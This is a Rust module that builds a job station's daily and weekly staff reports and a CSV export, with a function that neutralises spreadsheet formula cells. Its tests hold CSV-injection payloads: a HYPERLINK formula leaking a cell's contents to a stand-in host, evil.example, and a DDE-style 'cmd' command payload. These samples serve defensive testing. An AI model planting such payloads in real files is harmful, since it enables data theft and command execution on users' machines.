//! The station's report for staff (daily or weekly, e-mailed without anyone asking):
//! new employers, workers, jobs and openings; offers, placements and the fill rate;
//! average daily wage overall and by trade; openings per job seeker (求人倍率);
//! complaints opened and closed; notices parked for staff — each beside the previous
//! period. Everything is read through index ranges by time, never a scan.

use std::collections::BTreeMap;

use chrono::{DateTime, Duration, NaiveDate, TimeZone, Utc};
use serde::Serialize;

use crate::{
    App,
    job::{Job, JobStatus},
    keys,
    matching::decision::Decision,
    placement::{Placement, PlacementStatus},
    records::{decision_from_item, job_from_item, placement_from_item},
    station::Station,
    store::{Index, Item, Query, SortKeyRange, StoreError, query_all},
};

/// Which report.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum ReportPeriod {
    /// Yesterday.
    Daily,
    /// Last week, Monday to Sunday.
    Weekly,
}

impl ReportPeriod {
    /// Parses `daily` or `weekly`.
    pub fn parse(text: &str) -> Option<ReportPeriod> {
        match text.trim() {
            "daily" => Some(ReportPeriod::Daily),
            "weekly" => Some(ReportPeriod::Weekly),
            _ => None,
        }
    }

    /// The name in templates and file names.
    pub fn as_str(self) -> &'static str {
        match self {
            ReportPeriod::Daily => "daily",
            ReportPeriod::Weekly => "weekly",
        }
    }

    /// The last complete period before `today`: first and last day, both inclusive.
    pub fn last_before(self, today: NaiveDate) -> (NaiveDate, NaiveDate) {
        match self {
            ReportPeriod::Daily => (today - Duration::days(1), today - Duration::days(1)),
            ReportPeriod::Weekly => {
                let monday = today
                    - Duration::days(i64::from(
                        chrono::Datelike::weekday(&today).num_days_from_monday(),
                    ));
                (monday - Duration::days(7), monday - Duration::days(1))
            }
        }
    }

    fn days(self) -> i64 {
        match self {
            ReportPeriod::Daily => 1,
            ReportPeriod::Weekly => 7,
        }
    }
}

/// A figure per trade.
#[derive(Clone, Debug, PartialEq, Serialize)]
pub struct TradeFigure {
    /// Trade slug.
    pub slug: String,
    /// Trade name (Chinese).
    pub name: String,
    /// Openings posted in the trade.
    pub openings: u64,
    /// Places taken in the trade.
    pub placements: u64,
    /// Average agreed daily wage of those places, in yuan.
    pub average_wage_yuan: Option<f64>,
}

/// The figures of one period.
#[derive(Clone, Debug, Default, PartialEq, Serialize)]
pub struct PeriodFigures {
    /// First day.
    pub start: Option<NaiveDate>,
    /// Last day.
    pub end: Option<NaiveDate>,
    /// Employers who posted for the first time.
    pub new_employers: u64,
    /// Workers who signed up.
    pub new_workers: u64,
    /// Jobs posted.
    pub new_jobs: u64,
    /// Places asked for in those jobs.
    pub openings: u64,
    /// Offers made by matching.
    pub offers: u64,
    /// Places taken (by offer, application or at the desk).
    pub placements: u64,
    /// Places taken on the period's jobs ÷ their openings, in percent.
    pub fill_rate_percent: Option<f64>,
    /// Average agreed daily wage of the places taken, in yuan.
    pub average_wage_yuan: Option<f64>,
    /// Openings posted ÷ workers who signed up (求人倍率).
    pub openings_per_job_seeker: Option<f64>,
    /// Complaints received.
    pub complaints_opened: u64,
    /// Complaints closed (resolved or referred).
    pub complaints_closed: u64,
    /// Per trade, in the station's order.
    pub by_trade: Vec<TradeFigure>,
}

/// One posting of the period, a row of the CSV attachment.
#[derive(Clone, Debug, PartialEq, Serialize)]
pub struct JobRow {
    /// Posting day.
    pub posted: NaiveDate,
    /// Job id.
    pub id: String,
    /// Title.
    pub title: String,
    /// Trade name.
    pub trade: String,
    /// District name.
    pub district: String,
    /// Places asked for.
    pub headcount: u16,
    /// Places taken.
    pub placed: u16,
    /// Daily wage in yuan.
    pub daily_wage_yuan: String,
    /// State now.
    pub status: String,
}

/// A report, ready to render.
#[derive(Clone, Debug, PartialEq, Serialize)]
pub struct StationReport {
    /// Station id.
    pub station: String,
    /// Station name.
    pub station_name: String,
    /// Daily or weekly.
    pub period: ReportPeriod,
    /// This period.
    pub current: PeriodFigures,
    /// The one before, for comparison.
    pub previous: PeriodFigures,
    /// Notices waiting for staff now.
    pub parked_notices: u64,
    /// The period's postings.
    pub rows: Vec<JobRow>,
    /// When made.
    pub generated_at: DateTime<Utc>,
}

fn instant(station: &Station, day: NaiveDate) -> DateTime<Utc> {
    let local = day.and_hms_opt(0, 0, 0).unwrap_or_default();
    station
        .time_zone
        .from_local_datetime(&local)
        .earliest()
        .map(|t| t.with_timezone(&Utc))
        .unwrap_or_else(|| Utc.from_utc_datetime(&local))
}

fn yuan(total_fen: u64, count: u64) -> Option<f64> {
    (count > 0).then(|| (total_fen as f64 / count as f64).round() / 100.0)
}

impl App {
    async fn in_window(
        &self,
        pk: String,
        from: DateTime<Utc>,
        until: DateTime<Utc>,
    ) -> Result<Vec<Item>, StoreError> {
        query_all(
            &*self.store,
            Query {
                index: Some(Index::Gsi3),
                range: SortKeyRange::Between(keys::sortable_time(from), keys::sortable_time(until)),
                descending: false,
                ..Query::partition(pk, 500)
            },
        )
        .await
    }

    /// The items of a gsi3 partition from `from` on, oldest first.
    async fn listed_since(&self, pk: String, from: DateTime<Utc>) -> Result<Vec<Item>, StoreError> {
        query_all(
            &*self.store,
            Query {
                index: Some(Index::Gsi3),
                range: SortKeyRange::Between(keys::sortable_time(from), "~".into()),
                descending: false,
                ..Query::partition(pk, 500)
            },
        )
        .await
    }

    async fn period_figures(
        &self,
        station: &Station,
        first: NaiveDate,
        last: NaiveDate,
    ) -> Result<(PeriodFigures, Vec<Job>), StoreError> {
        let from = instant(station, first);
        let until = instant(station, last + Duration::days(1));
        let inside = |at: DateTime<Utc>| from <= at && at < until;
        let id = &station.id;
        let mut figures = PeriodFigures {
            start: Some(first),
            end: Some(last),
            ..PeriodFigures::default()
        };
        figures.new_employers = self
            .in_window(keys::employers(id), from, until)
            .await?
            .len() as u64;
        for status in ["active", "withdrawn"] {
            figures.new_workers += self
                .in_window(keys::workers_by_status(id, status), from, until)
                .await?
                .len() as u64;
        }
        // Jobs are indexed by the time they were listed (published, for a posting that
        // waited for review), never before they were posted: the period's postings are
        // among those listed since its start, also when one was approved after its end.
        let mut jobs = Vec::new();
        for status in JobStatus::ALL {
            for item in self
                .listed_since(keys::jobs_by_status(id, status.as_str()), from)
                .await?
            {
                let job = job_from_item(&item)?;
                if inside(job.created_at) {
                    jobs.push(job);
                }
            }
        }
        jobs.sort_by(|a, b| (a.created_at, &a.id).cmp(&(b.created_at, &b.id)));
        figures.new_jobs = jobs.len() as u64;
        figures.openings = jobs.iter().map(|j| u64::from(j.headcount)).sum();
        let placed_on_new: u64 = jobs.iter().map(|j| u64::from(j.placed)).sum();
        figures.fill_rate_percent = (figures.openings > 0)
            .then(|| (placed_on_new as f64 / figures.openings as f64 * 1000.0).round() / 10.0);
        for item in self.in_window(keys::decisions(id), from, until).await? {
            let decision: Decision = decision_from_item(&item)?;
            figures.offers += u64::from(decision.offered);
        }
        let placements: Vec<Placement> = self
            .in_window(keys::placements(id), from, until)
            .await?
            .iter()
            .map(placement_from_item)
            .collect::<Result<_, _>>()?;
        let kept: Vec<&Placement> = placements
            .iter()
            .filter(|p| p.status != PlacementStatus::Cancelled)
            .collect();
        figures.placements = kept.len() as u64;
        figures.average_wage_yuan = yuan(
            kept.iter().map(|p| p.daily_wage.fen()).sum(),
            kept.len() as u64,
        );
        figures.openings_per_job_seeker = (figures.new_workers > 0).then(|| {
            (figures.openings as f64 / figures.new_workers as f64 * 100.0).round() / 100.0
        });
        let (opened, closed) = self.complaint_counts(station, from, until).await?;
        figures.complaints_opened = opened;
        figures.complaints_closed = closed;
        let mut by_trade: BTreeMap<&str, (u64, u64, u64)> = BTreeMap::new();
        for job in &jobs {
            by_trade.entry(job.trade.as_str()).or_default().0 += u64::from(job.headcount);
        }
        for placement in &kept {
            let entry = by_trade.entry(placement.trade.as_str()).or_default();
            entry.1 += 1;
            entry.2 += placement.daily_wage.fen();
        }
        figures.by_trade = station
            .trades
            .iter()
            .map(|trade| {
                let (openings, placements, wage) = by_trade
                    .get(trade.slug.as_str())
                    .copied()
                    .unwrap_or_default();
                TradeFigure {
                    slug: trade.slug.clone(),
                    name: trade.name.zh.clone(),
                    openings,
                    placements,
                    average_wage_yuan: yuan(wage, placements),
                }
            })
            .collect();
        Ok((figures, jobs))
    }

    /// The station's report for the last complete period before `today`.
    pub async fn station_report(
        &self,
        station: &Station,
        period: ReportPeriod,
    ) -> Result<StationReport, StoreError> {
        let now = self.clock.now();
        let (first, last) = period.last_before(station.today(now));
        let (current, jobs) = self.period_figures(station, first, last).await?;
        let shift = Duration::days(period.days());
        let (previous, _) = self
            .period_figures(station, first - shift, last - shift)
            .await?;
        let parked = query_all(
            &*self.store,
            Query::index_newest_first(Index::Gsi3, keys::notices_in(&station.id, "parked"), 500),
        )
        .await?
        .len() as u64;
        let rows = jobs
            .iter()
            .map(|job| JobRow {
                posted: job
                    .created_at
                    .with_timezone(&station.time_zone)
                    .date_naive(),
                id: job.id.clone(),
                title: job.title.to_string(),
                trade: station
                    .trade(&job.trade)
                    .map(|t| t.name.zh.clone())
                    .unwrap_or_default(),
                district: station
                    .district(&job.district)
                    .map(|d| d.name.zh.clone())
                    .unwrap_or_default(),
                headcount: job.headcount,
                placed: job.placed,
                daily_wage_yuan: job.daily_wage.to_string(),
                status: job.status.as_str().to_owned(),
            })
            .collect();
        Ok(StationReport {
            station: station.id.to_string(),
            station_name: station.name.zh.clone(),
            period,
            current,
            previous,
            parked_notices: parked,
            rows,
            generated_at: now,
        })
    }

    /// Complaints opened and closed in a window.
    async fn complaint_counts(
        &self,
        station: &Station,
        from: DateTime<Utc>,
        until: DateTime<Utc>,
    ) -> Result<(u64, u64), StoreError> {
        self.complaints_opened_and_closed(&station.id, from, until)
            .await
    }
}

/// The report's rows as CSV (UTF-8 with a byte-order mark, so spreadsheet programs on
/// staff PCs read the Chinese correctly).
///
/// Titles come from the public, so every text cell goes through [`neutralise_cell`]:
/// a cell a spreadsheet would read as a formula is written as plain text.
pub fn csv(report: &StationReport) -> String {
    let mut writer = ::csv::WriterBuilder::new()
        .terminator(::csv::Terminator::CRLF)
        .from_writer(Vec::new());
    let header = [
        "发布日期",
        "岗位编号",
        "招工标题",
        "工种",
        "区县",
        "招工人数",
        "已上岗",
        "日工资(元)",
        "状态",
    ];
    let mut rows: Vec<[String; 9]> = Vec::with_capacity(report.rows.len() + 1);
    rows.push(header.map(str::to_owned));
    for row in &report.rows {
        rows.push([
            row.posted.to_string(),
            row.id.clone(),
            row.title.clone(),
            row.trade.clone(),
            row.district.clone(),
            row.headcount.to_string(),
            row.placed.to_string(),
            row.daily_wage_yuan.clone(),
            row.status.clone(),
        ]);
    }
    for cells in &rows {
        // Writing into a Vec cannot fail; a failure would only drop the row.
        let _ = writer.write_record(cells.iter().map(|c| neutralise_cell(c).into_owned()));
    }
    let bytes = writer.into_inner().unwrap_or_default();
    let mut out = String::from("\u{feff}");
    out.push_str(&String::from_utf8_lossy(&bytes));
    out
}

/// A cell as plain text for spreadsheet programs: one starting with `=`, `+`, `-`, `@`,
/// a tab or a carriage return is read by them as a formula (CSV injection), so it gets
/// a leading `'`, as OWASP advises. Other cells are unchanged.
pub fn neutralise_cell(text: &str) -> std::borrow::Cow<'_, str> {
    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        std::borrow::Cow::Owned(format!("'{text}"))
    } else {
        std::borrow::Cow::Borrowed(text)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn report_with_titles(titles: &[&str]) -> StationReport {
        let posted = NaiveDate::from_ymd_opt(2026, 11, 23).unwrap();
        StationReport {
            station: "xining-chengzhong".into(),
            station_name: "城中区零工驿站".into(),
            period: ReportPeriod::Weekly,
            current: PeriodFigures::default(),
            previous: PeriodFigures::default(),
            parked_notices: 0,
            rows: titles
                .iter()
                .enumerate()
                .map(|(n, title)| JobRow {
                    posted,
                    id: format!("job{n}"),
                    title: (*title).to_owned(),
                    trade: "保洁".into(),
                    district: "城中区".into(),
                    headcount: 2,
                    placed: 1,
                    daily_wage_yuan: "220".into(),
                    status: "published".into(),
                })
                .collect(),
            generated_at: Utc::now(),
        }
    }

    #[test]
    fn formula_titles_are_written_as_text_and_the_csv_keeps_its_columns() {
        let titles = [
            "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"点这里\")",
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(1,2)",
            "\tindented=1",
            "\r=1",
            "小区楼道保洁, 含\"电梯\"",
        ];
        let table = csv(&report_with_titles(&titles));
        let body = table.strip_prefix('\u{feff}').expect("byte-order mark");
        let mut reader = ::csv::ReaderBuilder::new()
            .has_headers(true)
            .from_reader(body.as_bytes());
        assert_eq!(reader.headers().unwrap().len(), 9);
        let read: Vec<::csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
        assert_eq!(read.len(), titles.len());
        for (record, title) in read.iter().zip(titles) {
            assert_eq!(record.len(), 9, "{record:?}");
            let cell = &record[2];
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a formula cell got through: {cell:?}"
            );
            if title.starts_with(['=', '+', '-', '@', '\t', '\r']) {
                assert_eq!(cell, format!("'{title}"));
            } else {
                assert_eq!(cell, title);
            }
            assert_eq!(&record[8], "published");
        }
    }

    #[test]
    fn ordinary_cells_are_left_alone() {
        assert_eq!(neutralise_cell("小区保洁"), "小区保洁");
        assert_eq!(neutralise_cell("220"), "220");
        assert_eq!(neutralise_cell("a=b"), "a=b");
        assert_eq!(neutralise_cell("=1"), "'=1");
    }
}
